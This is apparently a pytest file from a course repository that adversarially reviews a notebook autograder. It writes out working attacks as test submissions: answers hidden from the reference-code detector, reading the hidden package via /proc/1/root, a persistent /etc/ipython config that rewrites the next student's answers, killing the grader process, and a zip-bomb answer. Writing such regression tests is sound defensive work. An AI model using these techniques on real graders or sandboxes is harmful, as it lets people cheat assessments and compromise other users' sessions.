"""Adversarial review of the grader, third round (helper R11c): attacks that beat it today.

Each submission is built from the release (helpers of ``tests/test_grader_attacks.py``);
the point-scoring ones are graded in ONE ``python -m vae_edu.assignments grade`` call (like
``tests/test_grader_attacks_review2.py``), the crashing ones in three small calls of their
own (a crash would take the batch's report with it). Each test states what must be true
once the attack is stopped, and failed on the grader it was written against (commit
859f875), but for the marked control and the clean-up check.

Points without the work, in any mode (isolated kernel or not):

* **The reference pasted and kept in a dict** (``a1_kept``, Q1): the kit's
  ``vae_edu.kl._kl_diag_gaussians`` pasted verbatim as ``kl_core`` (its fingerprint is the
  reference's) and called through ``HELPERS = {"kl": kl_core}``. The README says "one who
  pastes the reference's code (same bytecode) ... is refused"; the reach listing
  (``_channel.REACH_CODE``) only follows global names, module attributes, closures and
  defaults, never the items of a container (nor a class, an instance with ``__call__``,
  ...), so it never fingerprints ``kl_core``. Was 2 / 2. The control (the same paste
  called directly, in ``a1_poisoner``'s Q2) is refused today.
* **A1 Q3 from a function the kernel's copy keeps** (``a1_kept``): ``kl_monte_carlo`` is
  ``vae_edu.estimate.mean_and_standard_error(log_q(s) - log_p(s))``. That estimator is the
  body of the reference ``vae_edu.kl.kl_monte_carlo`` (after its argument checks), with the
  detail the check grades (``std(ddof=1) / sqrt(n)``); ``estimate`` is in every kernel's
  copy (``_kernel_package._COMMON``), is not stubbed, and is no "private helper" of a
  forbidden module, so neither the copy, the scan, the reach listing nor the tripwire
  sees it. Was 3 / 3.
* **A2 Q2 from the categorical KL** (``a2_kl_categorical``): A2's copy keeps all of
  ``vae_edu.kl`` (``kl_diag_gaussians`` is handed out), and ``log p(x | l) =
  -KL(one-hot(x) || (sigmoid(l), sigmoid(-l)))``: ``kl_categorical`` in float64
  (``jax.enable_x64``, as its own docstring advises for tiny masses) is the Bernoulli
  log-likelihood, exact at logits of 100. Was 3 / 3.
* **A1 Q4 from a function that is not a KL** (same submission): Q4's hidden test accepts
  the numbers the student's own ``kl_two_gaussians`` gives ("one mistake costs once"), and
  any function at all counts as "a mistake": ``kl_two_gaussians = sum(mean_p) + 1`` makes
  ``kl_q_p, kl_p_q = 2, 1`` pass. Was 1 / 1 (Q2 itself is 0, as it should be).
* **A3 Q3 and Q4 from a degenerate model** (``a3_zero_params``): ``check_latent_statistics``
  recomputes the statistics from whatever ``params`` the kernel holds ("the statistics are
  graded, not the model"). With every parameter 0 every posterior mean is 0, so
  ``class_means = zeros((10, 2))``, ``farthest_digit = 0`` (argmax of ten equal norms) and
  ``centroid_accuracy = mean(test_labels == 0)`` (argmin of equal distances) are the
  "correct" answers, without training (Q1 and Q2 left as stubs) and without computing a
  class mean. Was 2 / 2 and 2 / 2.

In the mode the test suite's grader runs in (root, but ``chroot`` is not on the restricted
``PATH``: the **read-only view**, student code runs as root in a private mount namespace
that only covers some folders) -- the mode of any root grader without ``chroot`` or
``setpriv`` on its ``PATH`` (here ``chroot`` is ``/usr/sbin/chroot``, and the tests give the
grader ``PATH=/usr/bin:/bin``). With the full ``PATH`` the kernel is isolated and these three
hold (the real package and ``/etc`` are read-only or absent there, the grader is outside the
kernel's PID namespace):

* **The real package, read through ``/proc/<pid>/root``** (``a1_proc_root``): the view hides
  the package folder with an empty tmpfs in the kernel's mount namespace, but the grader
  (the kernel's parent) and PID 1 are in the original one, and root reads their root
  folder: ``/proc/1/root/<checkout>/vae_edu/kl.py`` is the real module. Written to a file
  in the working folder with one line added (``HELPERS = {"kl": _kl_diag_gaussians}``,
  the name built from two strings) and imported: the scan sees no forbidden name, the reach
  listing does not look into a dict, the tripwire wraps only the kernel's copy. Was 5 / 5
  (A1 Q1 + Q2).
* **Poisoning the next submission through IPython's system configuration**
  (``a1_poisoner`` then ``a1_blank_victim``): ``/etc/ipython`` is neither protected nor
  hidden by the view, and the kernel is root, so a cell writes
  ``/etc/ipython/ipython_kernel_config.py``. The NEXT kernel the grader starts (another
  student's untouched notebook) loads it before any cell and runs its ``exec_lines``: a
  ``post_run_cell`` hook that puts correct ``kl_standard_normal``, ``kl_two_gaussians`` and
  ``kl_monte_carlo`` in place of the student's stubs. The blank notebook scored 8 / 10
  instead of 0; the SHA-256 check of the grader's sources does not cover ``/etc``. (The
  payload is armed only while this test's marker file exists, only in a kernel of the
  same grader process, and deletes itself when it runs; the fixture removes it in any case.)

Crashing the grader, in any mode:

* **A lone surrogate in an exception message** (``crasher``): ``raise
  ValueError("bad " + chr(0xD800))`` in an answer. The message travels through the channel
  (JSON escapes it) into the feedback; printing the score table (one submission after
  another) or writing the feedback files (``--out``) raises ``UnicodeEncodeError`` (a
  ``ValueError``), which ``main`` turns into ``error: 'utf-8' codec can't encode ...``, exit
  code 2: no table and no JSON for the whole batch (every submission graded after it is
  lost too), and with ``--out`` no feedback for the students sorted after it, no
  ``written/``, no ``manual.csv``. A lone surrogate in a WRITTEN answer (no exception at
  all) does the same to ``--out``.
* **Killing the grader** (``killer``, read-only view only): the kernel is root in the
  grader's PID namespace and the grader is its parent: ``os.kill(os.getppid(), SIGKILL)``
  ends the batch with no table and no JSON.
* **A compressed answer** (unit level, :func:`_channel.decode_result`): the kernel writes
  the answer's ``.npz`` (its ``numpy.savez`` can be replaced by a cell); only the file's
  size is limited (``MAX_NPZ_BYTES``, 256 MB), and ``numpy.load`` inflates deflated
  members. 0.3 MB of zip inflate to a 300 MB array, accepted; 256 MB inflate to about
  250 GB, in the grader's own process, which has no memory limit (the kernel's
  ``RLIMIT_AS`` does not apply to it): the grader is killed by the kernel's OOM killer,
  with no table and no JSON.
"""

import io
import json
import zipfile
from pathlib import Path

import numpy as np
import pytest
from test_grader_attacks import A1, A2, A3, build, by_id, grade, grade_batch, write_submissions
from test_grader_attacks_review2 import zero_naming_the_reference

from vae_edu.assignments import DEFAULT_SOURCE_DIR, _channel, release_directory

REPO = Path(__file__).resolve().parents[1]
POISON = Path("/etc/ipython/ipython_kernel_config.py")

# The body of the reference vae_edu.kl._kl_diag_gaussians as the kit has it, pasted (its
# fingerprint is the reference's: names of functions and variables do not count).
PASTED_REFERENCE = (
    "from vae_edu.kl import squared_over_variance\n\n\n"
    "def {name}(mean_q, log_var_q, mean_p, log_var_p):\n"
    '    """The KL."""\n'
    "    log_ratio = log_var_q - log_var_p\n"
    "    per_dim = 0.5 * (\n"
    "        jnp.expm1(log_ratio) - log_ratio + squared_over_variance(mean_q - mean_p, log_var_p)\n"
    "    )\n"
    "    return jnp.sum(per_dim, axis=-1)\n"
)

A1_KEPT_FUNCTIONS = {
    # the reference pasted, then kept in a dict: the reach listing never looks inside one
    "kl_standard_normal": PASTED_REFERENCE.format(name="kl_core")
    + (
        '\n\nHELPERS = {"kl": kl_core}\n'
        "del kl_core\n\n\n"
        "def kl_standard_normal(mean, log_var):\n"
        "    zeros = jnp.zeros_like(mean)\n"
        '    return HELPERS["kl"](mean, log_var, zeros, zeros)\n'
    ),
    # not a KL at all: its two values become Question 4's numbers
    "kl_two_gaussians": (
        "def kl_two_gaussians(mean_q, log_var_q, mean_p, log_var_p):\n"
        "    return jnp.sum(mean_p, axis=-1) + 1.0\n"
    ),
    "kl_monte_carlo": (
        "from vae_edu.estimate import mean_and_standard_error\n\n\n"
        "def kl_monte_carlo(samples_q, log_q, log_p):\n"
        "    e = mean_and_standard_error(log_q(samples_q) - log_p(samples_q))\n"
        "    return e.mean, e.std_error\n"
    ),
    "asymmetry_numbers": (
        "q = (jnp.array([0.0]), jnp.array([0.0]))\n"
        "p = (jnp.array([1.0]), jnp.log(jnp.array([4.0])))\n"
        "kl_q_p = float(kl_two_gaussians(*q, *p))\n"
        "kl_p_q = float(kl_two_gaussians(*p, *q))\n"
    ),
}

# -log p(x | logits) = KL(one-hot(x) || Bernoulli(sigmoid(logits))): the categorical KL of
# vae_edu.kl (A2's copy keeps all of kl.py), in float64 so that logits of 100 stay exact.
A2_KL_CATEGORICAL = {
    "bernoulli_log_likelihood": (
        "from vae_edu.kl import kl_categorical\n\n\n"
        "def bernoulli_log_likelihood(x, logits):\n"
        "    with jax.enable_x64(True):\n"
        "        x64 = jnp.asarray(x, jnp.float64)\n"
        "        l64 = jnp.asarray(logits, jnp.float64)\n"
        "        p = jnp.stack([x64, 1.0 - x64], -1)\n"
        "        q = jnp.stack([jax.nn.sigmoid(l64), jax.nn.sigmoid(-l64)], -1)\n"
        "        out = -jnp.sum(kl_categorical(p, q), -1)\n"
        "    return out.astype(jnp.float32)\n"
    ),
}

A3_ZERO_PARAMS = {
    "class_means": (
        "params = {k: jnp.zeros_like(v) for k, v in init_params(jax.random.key(0)).items()}\n"
        "class_means = np.zeros((10, 2))\n"
        "farthest_digit = 0\n"
    ),
    "centroid_accuracy": "centroid_accuracy = float(np.mean(test_labels == 0))\n",
}


def a1_proc_root() -> dict:
    """The real kl.py through another process's root folder (see the module docstring)."""
    return {
        "kl_standard_normal": (
            "import os\n"
            "import sys\n\n"
            "HELPERS = {}\n"
            "for pid in (1, os.getppid()):\n"
            f"    folder = f'/proc/{{pid}}/root' + {str(REPO / 'vae_edu')!r}\n"
            "    try:\n"
            "        text = open(folder + '/kl.py').read()\n"
            "    except OSError:\n"
            "        continue\n"
            "    if 'reference_removed' in text:\n"
            "        continue\n"
            "    text += '\\nHELPERS = {\"kl\": _kl' + '_diag_gaussians}\\n'\n"
            "    with open('course_kl.py', 'w') as f:\n"
            "        f.write(text)\n"
            "    sys.path.insert(0, os.getcwd())\n"
            "    import course_kl\n\n"
            "    HELPERS = course_kl.HELPERS\n"
            "    break\n\n\n"
            "def kl_standard_normal(mean, log_var):\n"
            "    zeros = jnp.zeros_like(mean)\n"
            '    return HELPERS["kl"](mean, log_var, zeros, zeros)\n'
        ),
        "kl_two_gaussians": (
            "def kl_two_gaussians(mean_q, log_var_q, mean_p, log_var_p):\n"
            '    return HELPERS["kl"](mean_q, log_var_q, mean_p, log_var_p)\n'
        ),
    }


# What the next kernel runs before any cell (IPython's exec_lines): correct answers put in
# place of the student's after every cell.
_PAYLOAD = """
def _r11c_ksn(mean, log_var):
    return 0.5 * jnp.sum(jnp.square(mean) + jnp.exp(log_var) - 1.0 - log_var, axis=-1)


def _r11c_k2(mean_q, log_var_q, mean_p, log_var_p):
    r = log_var_q - log_var_p
    d = (mean_q - mean_p) * jnp.exp(-0.5 * log_var_p)
    return 0.5 * jnp.sum(jnp.exp(r) + jnp.square(d) - 1.0 - r, axis=-1)


def _r11c_mc(samples_q, log_q, log_p):
    r = log_q(samples_q) - log_p(samples_q)
    return jnp.mean(r), jnp.std(r, ddof=1) / jnp.sqrt(r.shape[0])


def _r11c_fix(*args, **kwargs):
    ns = get_ipython().user_ns
    ns.update(kl_standard_normal=_r11c_ksn, kl_two_gaussians=_r11c_k2, kl_monte_carlo=_r11c_mc)


import jax.numpy as jnp
get_ipython().events.register("post_run_cell", _r11c_fix)
"""


def a1_poisoner(marker: Path) -> dict:
    # Armed only for a kernel of the same grader process (its parent: the read-only view
    # keeps the grader's PID namespace) while this test's marker exists: the grading
    # kernels of other test runs on the machine are left alone, and do not use it up.
    config = (
        "import os\n"
        f"if os.getppid() == {{grader}} and os.path.exists({str(marker)!r}):\n"
        f"    os.remove({str(POISON)!r})  # one shot\n"
        f"    c.InteractiveShellApp.exec_lines = [{_PAYLOAD!r}]\n"
    )
    return {
        # the control: the same pasted reference, called directly, is refused today
        "kl_two_gaussians": PASTED_REFERENCE.format(name="kl_two_gaussians"),
        # written in the last answer cell: the next kernel the grader starts is the victim's
        "asymmetry_numbers": (
            "import os\n\n"
            "try:\n"
            f"    os.makedirs({str(POISON.parent)!r}, exist_ok=True)\n"
            f"    with open({str(POISON)!r}, 'x') as f:\n"
            f"        f.write({config!r}.format(grader=os.getppid()))\n"
            "except OSError:\n"
            "    pass\n"
        ),
    }


@pytest.fixture(scope="module")
def review3(tmp_path_factory):
    marker = tmp_path_factory.mktemp("review3_marker") / "armed"
    marker.write_text("r11c")
    subs = {
        "a1_kept": (A1, A1_KEPT_FUNCTIONS),
        "a2_kl_categorical": (A2, A2_KL_CATEGORICAL),
        "a3_zero_params": (A3, A3_ZERO_PARAMS),
        "a1_proc_root": (A1, a1_proc_root()),
        "a1_poisoner": (A1, a1_poisoner(marker)),
        "a1_blank_victim": (A1, {}),
    }
    preexisting = POISON.exists(), POISON.parent.exists()
    try:
        return grade_batch(tmp_path_factory.mktemp("review3"), subs)
    finally:
        marker.unlink()
        try:
            if not preexisting[0] and POISON.exists() and str(marker) in POISON.read_text():
                POISON.unlink()
            if not preexisting[1] and POISON.parent.is_dir():
                POISON.parent.rmdir()  # only if empty
        except OSError:
            pass


def test_a1_q3_from_the_kept_estimator_scores_zero(review3):
    """Was 3 / 3: ``estimate.mean_and_standard_error`` is the reference kl_monte_carlo's body."""
    q = by_id(review3["a1_kept"])["test_kl_monte_carlo"]
    assert zero_naming_the_reference(q), q


def test_a1_the_reference_pasted_and_kept_in_a_dict_scores_zero(review3):
    """Was 2 / 2: the kit's _kl_diag_gaussians pasted as ``kl_core`` and called through a
    dict. The README says a pasted reference (same bytecode) is refused; it is only when
    the answer reaches it through a global name, a module attribute, a closure or a default
    (the control below), never through a container (dict, list, class, instance)."""
    q = by_id(review3["a1_kept"])["test_kl_standard_normal"]
    assert zero_naming_the_reference(q), q


def test_control_the_same_paste_called_directly_is_refused(review3):
    """Holds today (the reach listing's fingerprint): the control of the attack above."""
    q = by_id(review3["a1_poisoner"])["test_kl_two_gaussians"]
    assert zero_naming_the_reference(q), q


def test_a1_q4_numbers_from_a_function_that_is_not_a_kl_score_zero(review3):
    """Was 1 / 1: KL(q||p) = 2 and KL(p||q) = 1, from ``sum(mean_p) + 1``."""
    questions = by_id(review3["a1_kept"])
    assert questions["test_kl_two_gaussians"]["points"] == 0, questions
    assert questions["test_asymmetry_numbers"]["points"] == 0, questions


def test_a2_the_bernoulli_log_likelihood_from_the_categorical_kl_scores_zero(review3):
    """Was 3 / 3: ``-kl_categorical(one_hot(x), (sigmoid(l), sigmoid(-l)))`` (float64)."""
    q = by_id(review3["a2_kl_categorical"])["test_bernoulli_log_likelihood"]
    assert zero_naming_the_reference(q), q


@pytest.mark.parametrize("gid", ["test_class_means", "test_centroid_accuracy"])
def test_a3_latent_statistics_of_an_untrained_zero_model_score_zero(review3, gid):
    """Was 2 / 2 each: all-zero params make every statistic trivial; the model the
    statistics are taken from must be the student's trained one."""
    entry = review3["a3_zero_params"]
    questions = by_id(entry)
    assert questions["test_train_step"]["points"] == 0, questions  # nothing was trained
    assert questions[gid]["points"] == 0, questions[gid]


@pytest.mark.parametrize("gid", ["test_kl_standard_normal", "test_kl_two_gaussians"])
def test_a1_the_real_package_read_through_proc_root_gives_no_reference(review3, gid):
    """Was 2 / 2 and 3 / 3 in the read-only view: /proc/1/root shows the hidden package."""
    q = by_id(review3["a1_proc_root"])[gid]
    assert q["points"] == 0 and q["status"] != "passed", q


def test_a1_an_earlier_submission_cannot_answer_for_a_blank_one(review3):
    """Was 8 / 10 for an untouched notebook graded after one that wrote
    /etc/ipython/ipython_kernel_config.py: graded alone it scores 0."""
    entry = review3["a1_blank_victim"]
    assert sum(q["points"] for q in entry["questions"]) == 0, by_id(entry)


def test_no_poison_is_left_behind(review3):
    """The fixture's clean-up (not an attack): nothing of the payload stays in /etc."""
    if POISON.exists():
        assert "r11c" not in POISON.read_text()


# ----------------------------------------------------------------------- crashing the grader

CRASHER = {
    "kl_standard_normal": (
        "def kl_standard_normal(mean, log_var):\n    raise ValueError('bad ' + chr(0xD800))\n"
    ),
}


KILLER = {
    "kl_standard_normal": "import os\nimport signal\n\nos.kill(os.getppid(), signal.SIGKILL)\n",
}


@pytest.fixture(scope="module")
def crash(tmp_path_factory):
    """Three small grader calls: the crasher then an untouched notebook (one submission
    after the other, --json); a folder of students with --out (the crasher, a written
    answer with a lone surrogate, an untouched notebook); the killer then the untouched
    notebook (--json)."""
    root = tmp_path_factory.mktemp("review3_crash")
    release = root / "release"
    release_directory(DEFAULT_SOURCE_DIR, release)
    written = build(release, A1, {"asymmetry_explanation": "KL(p||q) is larger " + chr(0xD800)})
    crasher, _, blank, killer = write_submissions(
        root,
        {
            "subs/crasher": (A1, build(release, A1, CRASHER)),
            "subs/written": (A1, written),
            "subs/zz_blank": (A1, build(release, A1, {})),
            "killer": (A1, build(release, A1, KILLER)),
        },
    )
    single = grade(root, crasher, blank, "--json", str(root / "report.json"))
    batch = grade(root, str(root / "subs"), "--out", str(root / "grades"))
    killed = grade(root, killer, blank, "--json", str(root / "killed.json"))
    return root, single, batch, killed


def test_a_surrogate_in_a_message_does_not_end_the_batch(crash):
    """Was: exit code 2, ``error: 'utf-8' codec can't encode character '\\ud800'``, no table
    and no report.json for either submission."""
    root, single, _, _ = crash
    assert single.returncode == 0, single.stderr[-2000:]
    entries = json.loads((root / "report.json").read_text())
    assert [e["assignment"] for e in entries] == [A1, A1]
    assert single.stdout.count("autograded total") == 2, single.stdout


def test_a_surrogate_in_a_message_or_a_written_answer_does_not_stop_the_feedback_files(crash):
    """Was: exit code 2 in ``write_outputs``: no feedback for the crasher or any student
    sorted after it, no written/ answers after it and no manual.csv."""
    root, _, batch, _ = crash
    assert batch.returncode == 0, batch.stderr[-2000:]
    for student in ("crasher", "written", "zz_blank"):
        assert (root / "grades" / "feedback" / student / f"{A1}.md").is_file(), student
    assert (root / "grades" / "manual.csv").is_file()


def test_a_kernel_cannot_kill_the_grader(crash):
    """Was (read-only view: the kernel is root, in the grader's PID namespace, and its
    parent is the grader): ``os.kill(os.getppid(), SIGKILL)``, exit code -9, no table and
    no JSON for the batch."""
    root, _, _, killed = crash
    assert killed.returncode == 0, (killed.returncode, killed.stderr[-2000:])
    entries = json.loads((root / "killed.json").read_text())
    assert [sum(q["points"] for q in e["questions"]) for e in entries] == [0, 0]


def test_a_compressed_answer_is_refused_before_it_is_inflated(tmp_path):
    """Was: 0.3 MB of deflated zeros accepted as a 300 MB array (beyond MAX_NPZ_BYTES)."""
    size = _channel.MAX_NPZ_BYTES + 44 * 1024 * 1024  # 300 MB of float32 zeros
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        header, {"descr": "<f4", "fortran_order": False, "shape": (size // 4,)}
    )
    nonce = "0123456789abcdef"
    with zipfile.ZipFile(tmp_path / f"res-{nonce}.npz", "w", zipfile.ZIP_DEFLATED) as npz:
        with npz.open("r0.npy", "w", force_zip64=True) as member:
            member.write(header.getvalue())
            chunk = bytes(1 << 20)
            for _ in range(size // len(chunk)):
                member.write(chunk)
    assert (tmp_path / f"res-{nonce}.npz").stat().st_size < 1024 * 1024
    head = {"nonce": nonce, "status": "ok", "has_arrays": True}
    head["value"] = {"kind": "array", "array": "r0"}
    (tmp_path / f"res-{nonce}.json").write_text(json.dumps(head))
    with pytest.raises(_channel.ChannelError):
        _channel.decode_result(tmp_path, nonce)
